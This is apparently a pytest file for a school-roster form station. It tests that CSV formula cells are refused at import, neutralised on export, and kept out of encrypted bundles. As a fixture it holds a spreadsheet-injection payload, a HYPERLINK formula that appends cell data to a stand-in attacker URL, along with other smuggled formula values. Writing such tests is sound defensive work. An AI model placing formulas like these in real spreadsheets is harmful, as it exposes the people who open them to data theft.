"""Hardening of the roster and of personal data (issue 18): formula cells, encrypted bundles that
name nobody, owner-only files, no readings in plain files, no partial exports left behind."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy import select

from formstation import demo
from formstation.roster import import_roster
from formstation.store import forms, persons
from output.export import export

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


def _roster(path: Path, edit) -> Path:
    rows = demo.roster_rows(seed=5, per_class=3)
    edit(rows)
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow(demo.HEADER[:7])
        w.writerows(r[:7] for r in rows)
    return path


def test_formula_cells_refused_at_import(tmp_path, workspace):
    from formstation.store import Store

    def edit(rows):
        rows[0][2], rows[1][0], rows[2][6], rows[3][5] = FORMULA, "+SUM(1,2)", "@cmd", "-1+1"

    rep = import_roster(Store.open(workspace), _roster(tmp_path / "r.csv", edit))
    assert sorted(p.row for p in rep.problems) == [2, 3, 4, 5]
    assert all("formula" in p.reason for p in rep.problems)
    assert rep.added == len(demo.roster_rows(seed=5, per_class=3)) - 4


def test_every_csv_the_export_writes_neutralises_formulas(printed, tmp_path):
    """Cells that reached the store before the import refused them are exported as text."""
    store, _layout, _pdfs = printed
    with store.tx() as conn:
        rows = list(conn.execute(select(forms.c.form_id, forms.c.person_id).order_by(forms.c.form_id)))
        for (fid, pid), status in zip(rows[:3], ("accepted", "review", "printed"), strict=True):
            conn.execute(persons.update().where(persons.c.person_id == pid).values(name=FORMULA, bank="@SUM(1)"))
            conn.execute(forms.update().where(forms.c.form_id == fid).values(status=status))
    out = tmp_path / "export"
    export(store, out)
    seen = 0
    for name in ("card_data.csv", "pending.csv", "not_returned.csv"):
        for row in _csv(out / name)[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), (name, cell)
            seen += ("'" + FORMULA) in row
    assert seen == 3  # the text is kept, visibly, as text


def test_encrypted_bundle_names_nobody_without_the_passphrase(printed, tmp_path):
    """Zip entry names are not encrypted: the bytes of the zip must not hold any child's ID or name."""
    import zipfile

    import pyzipper

    store, _layout, _pdfs = printed
    with store.tx() as conn:
        people = list(conn.execute(select(persons.c.id_number, persons.c.name)))
        conn.execute(forms.update().values(status="accepted"))
    out = tmp_path / "enc"
    export(store, out, passphrase=b"correct horse battery staple")
    zips = sorted(out.glob("*.zip"))
    assert zips
    for z in zips:
        data = z.read_bytes()
        for id_number, name in people:
            assert id_number.encode() not in data and name.encode() not in data
        with zipfile.ZipFile(z) as zf:
            assert zf.namelist() == ["export.zip"]
        with pyzipper.AESZipFile(z) as zf:
            zf.setpassword(b"correct horse battery staple")
            with zipfile.ZipFile(io.BytesIO(zf.read("export.zip"))) as inner:
                names = inner.namelist()
    assert "card_data.csv" in names and "manifest.json" in names


def test_short_passphrase_refused(printed, tmp_path, capsys):
    import pytest

    from formstation.cli import main
    from formstation.errors import ExitCode, StationError

    store, _layout, _pdfs = printed
    pw = tmp_path / "pw.txt"
    pw.write_text("eleven-char\n", encoding="utf-8")
    assert main(["export", "--out", str(tmp_path / "e"), "--encrypt-to", str(pw)]) == ExitCode.INPUT
    assert "at least 12" in capsys.readouterr().err and not (tmp_path / "e").exists()
    with pytest.raises(StationError):  # the review station's downloads pass the passphrase itself
        export(store, tmp_path / "e", passphrase=b"short")
